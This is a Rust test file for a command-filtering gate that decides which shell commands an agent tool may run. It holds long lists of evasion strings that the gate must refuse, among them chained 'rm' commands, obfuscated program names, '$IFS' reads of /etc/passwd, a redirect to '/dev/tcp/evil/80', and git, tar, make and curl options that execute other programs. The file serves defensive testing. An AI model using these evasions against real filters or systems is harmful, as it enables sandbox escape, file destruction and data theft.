//! Rules on shell commands: what they let through, and what is refused wherever it is hidden.

use omen_gate::{Config, GateCode};
use serde_json::json;

use super::{Guarded, any_values, guarded, guarded_by, tool_of};

const RULES: &str = r#"{ "/text" = { command = { program = ["git", "cargo", "ls", "find", "tar", "make", "echo", "cat", "cd", "rsync"], redirect = "./out" } } }"#;

/// Refusal of a command, if there is one.
async fn refusal(guarded: &Guarded, command: &str) -> Option<(GateCode, String)> {
    let refused = guarded.call(&json!({ "text": command }).to_string()).await.err();
    refused.map(|blocked| (blocked.code, format!("{}; {}", blocked.message, blocked.help)))
}

/// Commands that every POSIX shell reads alike, and that run listed programs alone.
const PASSES: &[&str] = &[
    "git status",
    "git commit -m 'a; rm -rf ~ `x` $(y)'",
    "git commit -m \"it's done; rm x | sh > y\"",
    "git log --oneline -n 5 HEAD~3",
    "git diff HEAD^ -- src/a.rs",
    "git push -u origin main",
    "cargo test --workspace 2>&1",
    "cargo build && cargo test || echo failed",
    "cargo test | cat",
    "(cd sub && cargo test)",
    "( (ls) )",
    "(ls; git status;) && ls",
    "ls -la; git status; ls",
    "ls\ngit status\n",
    "\n\nls\n\n",
    "ls &",
    "ls >/dev/null 2>&1",
    "cargo test 2>/dev/null",
    "ls \\\n  -la",
    "ls \\\n&& ls \\\n\\\n| cat \\\n>/dev/null",
    "git \\\nstatus",
    "git --no-pager switch -c x",
    "git commit -C HEAD",
    "git --version",
    "\\\n\\\nls",
    "'gi't st\"at\"us",
    "g\\it status",
    "echo \"a\\$b\" 'c*' \"d?\" \"\\`\"",
    "echo \"two\nlines\"",
    "find . -name '*.rs'",
    "tar -xf a.tar",
    "echo a=b 2> /dev/stderr",
    "echo é ü 日本 a#b hi! a~b",
    "ls |& cat",
    "ls &&\n  git status",
    "echo '' \"\"",
    "ls 2>&-",
];

/// Commands that run something else, or of which shells may read something else.
const EVASIONS: &[&str] = &[
    // Other programs, anywhere in a line.
    "rm x",
    "git status; rm x",
    "git status && rm x",
    "git status || rm x",
    "git status | rm x",
    "git status |& rm x",
    "git status & rm x",
    "git status\nrm x",
    "git status;rm x",
    "git status;\n\n\trm x",
    "git status&&rm x",
    "git status|sh",
    "(rm x)",
    "( git status; rm x )",
    "(cd x && (ls; rm y))",
    "{ rm x; }",
    "! rm x",
    "! git status",
    "time rm x",
    "time -p git status",
    "if git status; then rm x; fi",
    "while ls; do rm x; done",
    "until ls; do rm x; done",
    "for i in a; do rm x; done",
    "case a in a) rm x;; esac",
    "select x in a; do rm x; done",
    "function git { rm x; }",
    "git() { rm x; }; git",
    "git () { rm x; }",
    "coproc rm x",
    "[[ -f x ]] && rm x",
    "[ -f x ] && rm x",
    "git status # ; x\nrm x",
    "# x\nrm x",
    "ls \\\n; rm x",
    "ls \\; \nrm x",
    // The name of the program in another spelling.
    "r\\m x",
    "'rm' x",
    "\"rm\" x",
    "r''m x",
    "r\"\"m x",
    "/bin/rm x",
    "./git status",
    "../git status",
    "/tmp/git status",
    "GIT status",
    "git\u{a0}status",
    "gi\u{200b}t status",
    "ｇｉｔ status",
    "gіt status",
    "$'\\x72\\x6d' x",
    "$'rm' x",
    "$\"rm\" x",
    "r${X}m x",
    "${X} x",
    "$X x",
    "$0 x",
    "$@",
    "r$@m x",
    "r$*m x",
    "${HOME:0:1}bin${HOME:0:1}rm x",
    "$(echo rm) x",
    "`echo rm` x",
    "$(rm x)",
    "`rm x`",
    "{rm,-rf,x}",
    "git {status,log}",
    "r[m] x",
    "/b?n/rm x",
    "/*/rm x",
    "~/rm x",
    "=rm x",
    "git =rm",
    // Arguments that a shell expands.
    "git log $(rm x)",
    "git log `rm x`",
    "git log \"$(rm x)\"",
    "git log \"`rm x`\"",
    "git log \"a $(echo \"$(rm x)\")\"",
    "git log ${x:-$(rm y)}",
    "git log \"${x:-`rm y`}\"",
    "git log $((a[$(rm z)]))",
    "git log $[1+1]",
    "cat${IFS}/etc/passwd",
    "cat$IFS/etc/passwd",
    "git log $X",
    "git log \"$X\"",
    "git add *",
    "git add src/?.rs",
    "git add [ab].rs",
    "git add ~/x",
    "git log --git-dir=~/x",
    "cat <(rm x)",
    "cat < <(rm x)",
    "ls > >(rm x)",
    "echo !!",
    "echo !rm",
    // Variables.
    "A=1 git status",
    "GIT_PAGER='rm x' git log",
    "GIT_SSH_COMMAND='rm x' git fetch",
    "PATH=/tmp:$PATH git status",
    "LD_PRELOAD=/tmp/x.so ls",
    "A+=1 git status",
    "a[0]=1 git status",
    "A=1",
    "export PATH=/tmp",
    "declare -x A=1",
    "IFS=x; git status",
    "alias git=rm",
    "alias ls='rm x'\nls",
    "unset PATH",
    "hash -p /bin/rm git",
    "enable -f x git",
    "set -e",
    "trap 'rm x' EXIT",
    // Programs that run others.
    "env rm x",
    "env git status",
    "xargs rm",
    "ls | xargs rm",
    "find . -exec rm {} \\;",
    "find . -exec rm '{}' ';'",
    "find . -execdir rm '{}' +",
    "find . -ok rm '{}' ';'",
    "find . -okdir rm '{}' ';'",
    "find . -delete",
    "find . -fprintf x y",
    "find . '-exec' rm x ';'",
    "find . -\"exec\" rm x ';'",
    "eval rm x",
    "eval 'rm x'",
    "exec rm x",
    "command rm x",
    "builtin eval x",
    ". ./x",
    "source x",
    "sh -c 'rm x'",
    "bash -c \"rm x\"",
    "sh x",
    "echo 'rm x' | sh",
    "cat x | bash",
    "sudo rm x",
    "nohup rm x",
    "nice rm x",
    "timeout 5 rm x",
    "busybox rm x",
    "python3 -c 'x'",
    "perl -e 'x'",
    "awk 'BEGIN { system(\"rm x\") }'",
    "sed 's/a/rm x/e'",
    "vim -c '!rm x'",
    "ssh host rm x",
    // Options by which a program runs others.
    "git -c core.pager='rm x' log",
    "git -c alias.x='!rm y' x",
    "git -C /tmp/evil status",
    "git --config-env=a=b log",
    "git --config-e=a=b log",
    "git --exec-path=/tmp log",
    "git --git-dir=/tmp/evil status",
    "git --git-d /tmp/evil status",
    "git --work-tree=/ status",
    "git log --output=/etc/x",
    "git log --outp=/etc/x",
    "git diff --ext-diff",
    "git show --textconv",
    "git grep -O'rm x' y",
    "git grep --open-files-in-pager='rm x' y",
    "git grep --open='rm x' y",
    "git fetch --upload-pack='rm x' o",
    "git clone -u 'rm x' o",
    "git clone --upload-p='rm x' o",
    "git ls-remote --upload-pack='rm x' o",
    "git push --receive-pack='rm x' o",
    "git push --exec='rm x' o",
    "git rebase -x 'rm x' HEAD~1",
    "git rebase --exec 'rm x' HEAD~1",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "git filter-branch --tree-filter 'rm x'",
    "git difftool -x 'rm x'",
    "git config alias.x '!rm y'",
    "git --no-pager config core.pager 'rm x'",
    "git init --template=/tmp/evil",
    "git archive --remote=x --exec='rm x' HEAD",
    "tar -cf x --to-command='rm x' y",
    "tar -xf a --checkpoint=1 --checkpoint-action=exec='rm x'",
    "tar -xf a --checkpoint-act=exec='rm x'",
    "tar -I 'rm x' -xf a",
    "tar -xIf 'rm x' a",
    "tar --use-compress-program='rm x' -xf a",
    "make --eval='$(shell rm x)'",
    "make -f /tmp/evil.mk",
    "make -C /tmp/evil",
    "rsync -e 'rm x' a b",
    "rsync -ae 'rm x' a b",
    "rsync --rsh='rm x' a b",
    "cargo --config 'build.rustc=\"/tmp/x\"' build",
    "cargo build --config=x",
    // Redirections.
    "ls > x",
    "ls >x",
    "ls >> ~/.bashrc",
    "ls >| /etc/x",
    "ls 2> /etc/x",
    "ls 2>/etc/x",
    "ls < /etc/shadow",
    "ls <> x",
    "ls &> x",
    "ls &>> x",
    "ls >& x",
    "ls >&x",
    "ls > out/../../x",
    "ls > /dev/tcp/evil/80",
    "ls > \"$X\"",
    "> x",
    "> /dev/null",
    "ls; > /dev/null",
    "(ls) > x",
    "cat << EOF\nx\nEOF",
    "cat << EOF | sh\nrm x\nEOF",
    "cat <<- EOF\nx\nEOF",
    "cat <<< x",
    "cat <<'EOF'\nx\nEOF",
    "ls {fd}> x",
    "ls 10>x",
    "ls 10>&1",
    "ls 10>/dev/null",
    "ls 10</dev/null",
    "ls 1\\\n0>/dev/null",
    // Shells join what a continued line separates.
    "find . &\\\n>/dev/null ls -exec touch x \\;",
    "find . '&'&\\\n> out/x ls -delete",
    "(\\\n(git + x\"[\"\\$\"(touch x)\"\"]\" ))",
    "ls |\\\n| rm",
    "ls 1\\\n>/dev/null",
    "ls >\\\n&2",
    "ls >\\\n(rm x)",
    "ls <\\\n/dev/null",
    "gi\\\nt status",
    "''\\\nls",
    "ls 2\\\n\\\n>/dev/null",
    "cat <1-9>",
    "cat <-",
    "cat <1",
    // Not a command, or one to some shells only.
    "",
    " ",
    "\n",
    ";",
    "&& ls",
    "ls &&",
    "ls ||",
    "ls |",
    "ls ;; ls",
    "ls ; ; ls",
    "ls & ; ls",
    "| ls",
    "()",
    "(ls",
    "ls)",
    "((ls))",
    "((x=1))",
    "(ls) git",
    "(ls)(ls)",
    "ls (git)",
    "ls 'x",
    "ls \"x",
    "ls x\\",
    "ls >",
    "ls > ; ls",
    "ls\rrm x",
    "ls\r\nrm x",
    "ls\u{0}rm x",
    "ls\u{b}rm x",
    "ls\u{85}rm x",
    "ls\u{2028}rm x",
    "ls \u{202e}x mr",
    "ls \u{1b}[2K",
];

const OPTION_RULES: &str = r#"{ "/text" = { command = { program = [
    "find", "fd", "fdfind", "rg", "tar", "rsync", "sort", "split", "zip", "curl", "wget", "make", "cargo", "npm", "go", "git", "gtar",
    "bsdtar", "gmake", "gfind",
] } } }"#;

/// Commands of listed programs that run no others by what they are given.
const OPTION_PASSES: &[&str] = &[
    "find . -type f -name '*.rs' -o -name x=y",
    "rg -n --pretty pre",
    "tar xzf a.tar.gz",
    "tar -czf a.tar.gz Index Files",
    "rsync -av --delete a b",
    "sort -k2 -n a",
    "zip -r a.zip Text",
    "curl -s --fail https://example.com",
    "wget -q https://example.com",
    "make -j4 --keep-going all",
    "cargo build --target x86_64-unknown-linux-gnu --release",
    "cargo test a+b",
    "npm install -g typescript",
    "npm run -s build",
    "npm ci --save-dev",
    "go test -count=1 -cover -run '^TestExec$' ./...",
    "go build -mod=readonly ./...",
    "git log --oneline --name-only -n 5",
    "git commit -m run --template-free",
];

/// Commands of listed programs that run others, or write to files that they name, by what they are given.
const OPTION_EVASIONS: &[&str] = &[
    "make 'X:=$(shell touch x)'",
    "make X!='touch x'",
    "make SHELL=./evil",
    "make -j4 SHELL=./evil",
    "make -- '-x:=$(shell touch x)'",
    "make -E 'X:=$(shell touch x)'",
    "make -kE'X:=$(shell touch x)'",
    "go test -exec=./evil",
    "go test --exec=./evil",
    "go test -exec ./evil",
    "go build -toolexec=./evil",
    "go build --toolexec ./evil",
    "go vet -vettool=./evil",
    "go build -ldflags='-linkmode=external -extld=./evil'",
    "go build -overlay=evil.json",
    "go build -o /etc/x",
    "go build -o=/etc/x",
    "go build --o=/etc/x",
    "go build -C /tmp/evil",
    "go test -coverprofile=/etc/x",
    "go test -test.coverprofile=/etc/x",
    "go env -w CC=./evil",
    "go env --w=true CC=./evil",
    "go run /tmp/evil.go",
    "go generate /tmp/evil.go",
    "go tool compile -o x",
    "find . --exec=x",
    "zip -T -TT 'rm x' a.zip b",
    "zip -TT 'rm x' a.zip b",
    "zip -qTT 'rm x' a.zip b",
    "zip -T --unzip='rm x' a.zip b",
    "tar cfI o.tar 'sh -c x' a",
    "tar xIf 'rm x' a",
    "tar xFf 'rm x' a",
    "tar --rsh-command=./evil -xf host:a",
    "curl -D /etc/x https://example.com",
    "curl -sD/etc/x https://example.com",
    "curl --dump-header /etc/x https://example.com",
    "curl -c /etc/x https://example.com",
    "curl --cookie-jar /etc/x https://example.com",
    "curl --trace /etc/x https://example.com",
    "curl --trace-ascii /etc/x https://example.com",
    "curl --stderr /etc/x https://example.com",
    "curl --libcurl /etc/x https://example.com",
    "curl --etag-save /etc/x https://example.com",
    "curl --hsts /etc/x https://example.com",
    "curl --alt-svc /etc/x https://example.com",
    "curl --output-dir /etc https://example.com",
    "curl -w '%output{/etc/x}' https://example.com",
    "curl --expand-output /etc/x https://example.com",
    "curl --engine ./evil.so https://example.com",
    "wget -o /etc/x https://example.com",
    "wget -qa/etc/x https://example.com",
    "wget -P /etc https://example.com",
    "wget --save-cookies=/etc/x https://example.com",
    "wget --warc-file=/etc/x https://example.com",
    "npm exec evil",
    "npm exe evil",
    "npm x evil",
    "npm explore a -- rm x",
    "npm explo a -- rm x",
    "npm init evil",
    "npm create evil",
    "npm cr evil",
    "npm innit evil",
    "npm config set script-shell ./evil",
    "npm con set script-shell ./evil",
    "npm c set script-shell ./evil",
    "npm set script-shell=./evil",
    "npm pkg set scripts.x='rm x'",
    "npm edit a --editor=./evil",
    "npm run x --script-shell=./evil",
    "npm run x --script-sh ./evil",
    "npm run x -script-shell=./evil",
    "npm run x -script-sh ./evil",
    "npm run x -gC /tmp/evil",
    "npm run x -prefix /tmp/evil",
    "npm docs --browser=./evil",
    "npm install a --git=./evil",
    "cargo +/tmp/evil build",
    "cargo --color always install evil",
    "cargo build --manifest-path=/tmp/evil/Cargo.toml",
    "cargo build --target-dir /etc",
    "cargo rustc -- --codegen linker=./evil",
    "cargo clippy -- -Clinker=./evil",
    "cargo clippy -- --codegen=linker=./evil",
    "fdfind x -x rm",
    "rg --pre ./evil x",
    "rg --hostname-bin=./evil x",
    "rsync --daemon --config=evil.conf",
    "rsync --log-file=/etc/x a b",
    "sort --compress-program=./evil a",
    "sort --temp=/etc a",
    "split --filter='rm x' a",
    "git reflog --output=/etc/x",
    "git stash show -p --output=/etc/x",
    "git diff-tree --ext-diff HEAD",
    "git cat-file --textconv HEAD:a",
    "git fetch-pack --exec=./evil o",
    "git send-pack --receive-pack=./evil o",
    "git merge-index ./evil -a",
    "git for-each-repo --config=a status",
    "git remote-ext o 'rm x'",
    "git web--browse --browser=evil x",
    "git apply --unsafe-paths x",
    "git bisect view",
    "git bugreport -o /etc",
    "git bundle create /etc/x HEAD",
    "git checkout-index --prefix=/etc/ a",
    "git credential-store --file /etc/x store",
    "git fast-export --export-marks=/etc/x HEAD",
    "git fast-import --export-marks=/etc/x",
    "git submodule--helper foreach 'rm x'",
    "git alias-of-the-project",
    "git --shallow-file=x log",
    "git -p log",
    "git -c a=b log",
    "git clone -c core.fsmonitor=./evil o",
    "git clone -qc core.fsmonitor=./evil o",
    "git fetch-pack o",
    "git lo",
    "git --no-pager evil",
    "cargo evil",
    "cargo install evil",
    "cargo nextest run",
    "npm docs",
    "npm --loglevel silent exec evil",
    "go -C /tmp/evil build",
    "go work use /tmp/evil",
    "gtar -xIf 'rm x' a",
    "bsdtar xIf 'rm x' a",
    "gmake CC=./evil",
    "gfind . -delete",
];

#[tokio::test]
async fn options_by_which_listed_programs_run_others_or_write_files_are_refused() {
    let folder = tempfile::tempdir().unwrap();
    let guarded = guarded(folder.path(), OPTION_RULES);
    for command in OPTION_PASSES {
        assert_eq!(refusal(&guarded, command).await, None, "{command}");
        assert_eq!(guarded.taken().len(), 1, "{command}");
    }
    for command in OPTION_EVASIONS {
        let (_, why) = refusal(&guarded, command).await.unwrap_or_else(|| panic!("let through: {command:?}"));
        assert!(why.contains("run other programs or write files"), "{command:?}: {why}");
    }
    assert!(guarded.taken().is_empty());
    let (_, why) = refusal(&guarded, "make CC=./evil").await.unwrap();
    assert!(why.contains("`NAME=VALUE` makes `make`"), "{why}");
    let (_, why) = refusal(&guarded, "git --no-pager evil").await.unwrap();
    assert!(why.contains("unknown argument `evil` may make `git` run other programs or write files"), "{why}");
}

#[tokio::test]
async fn plain_commands_are_let_through() {
    let folder = tempfile::tempdir().unwrap();
    let guarded = guarded(folder.path(), RULES);
    for command in PASSES {
        assert_eq!(refusal(&guarded, command).await, None, "{command}");
        assert_eq!(guarded.taken().len(), 1, "{command}");
    }
}

#[tokio::test]
async fn every_evasion_of_a_command_is_refused_and_reaches_no_server() {
    assert!(EVASIONS.len() >= 150, "{}", EVASIONS.len());
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("out")).unwrap();
    let guarded = guarded(folder.path(), RULES);
    for command in EVASIONS {
        let (code, _) = refusal(&guarded, command).await.unwrap_or_else(|| panic!("let through: {command:?}"));
        // The plan itself may be refused for its text.
        assert!([GateCode::Pg3, GateCode::Pg1].contains(&code), "{command:?} {code}");
    }
    assert!(guarded.taken().is_empty());
}

/// Whatever a command that passes is put into: what follows it in the same text counts, too.
#[tokio::test]
async fn a_program_that_is_not_listed_is_refused_beside_every_command_that_passes() {
    let folder = tempfile::tempdir().unwrap();
    let guarded = guarded(folder.path(), RULES);
    for command in PASSES {
        for separator in [";", "&&", "||", "|", "\n", " & "] {
            for line in [format!("{command}{separator}rm x"), format!("rm x{separator}{command}")] {
                assert!(refusal(&guarded, &line).await.is_some(), "{line:?}");
            }
        }
    }
}

#[tokio::test]
async fn redirections_lead_only_into_the_folders() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("out")).unwrap();
    let guarded = guarded(folder.path(), RULES);
    let within = folder.path().join("out/log.txt");
    assert_eq!(refusal(&guarded, &format!("ls > {}", within.display())).await, None);
    assert_eq!(refusal(&guarded, &format!("cat < {} 2>&1", within.display())).await, None);
    let outside = format!("ls > {}", folder.path().join("log.txt").display());
    let (_, why) = refusal(&guarded, &outside).await.unwrap();
    assert!(why.contains("it leads out of the folder"), "{why}");
}

#[tokio::test]
async fn arguments_have_to_match() {
    let rules = r#"{ "/text" = { command = { program = ["git"], argument = 'status|log|-n|[0-9]+' } } }"#;
    let folder = tempfile::tempdir().unwrap();
    let guarded = guarded(folder.path(), rules);
    assert_eq!(refusal(&guarded, "git log -n 5; git status").await, None);
    let (_, why) = refusal(&guarded, "git log; git push").await.unwrap();
    assert!(why.contains("it does not match in full"), "{why}");
}

#[tokio::test]
async fn length_and_nesting_are_limited_before_anything_is_read() {
    let folder = tempfile::tempdir().unwrap();
    let guarded = guarded_by(folder.path(), tool_of(any_values()), RULES, "[limits]\nplan_bytes = 200_000\n");
    let nested = |depth: usize| format!("{}ls{}", "( ".repeat(depth), " )".repeat(depth));
    assert_eq!(refusal(&guarded, &nested(64)).await, None);
    let (_, why) = refusal(&guarded, &nested(65)).await.unwrap();
    assert!(why.contains("nested too deeply"), "{why}");
    for deep in [nested(16_000), "$(".repeat(20_000), "\\\n".repeat(30_000), "{".repeat(60_000)] {
        assert!(refusal(&guarded, &deep).await.is_some());
    }
    let (_, why) = refusal(&guarded, &format!("echo {}", "x".repeat(64 * 1024))).await.unwrap();
    assert!(why.contains("exceeds 64 KiB"), "{why}");
}

#[test]
fn programs_that_run_others_cannot_be_listed() {
    let config = |program: &str| {
        Config::parse(&format!(
            "[servers.s]\n[[allow]]\nserver = 's'\ntool = 't'\npermissions = ['EXECUTE']\nwhere = {{ \"/text\" = {{ command = {{ \
             program = ['{program}'] }} }} }}\n"
        ))
    };
    for program in [
        "env",
        "xargs",
        "sh",
        "/bin/bash",
        "python3",
        "/usr/bin/python3.12",
        "sudo",
        "eval",
        ".",
        "gsed",
        "npx",
        "declare",
        "printf",
        "test",
        "[",
    ] {
        let errors = config(program).unwrap_err();
        assert!(errors.0[0].message.contains("runs other programs"), "{program}: {}", errors.0[0].message);
    }
    for program in ["git", "cargo", "/usr/bin/git", "npm"] {
        assert!(config(program).is_ok(), "{program}");
    }
    assert!(config("").is_err());
}
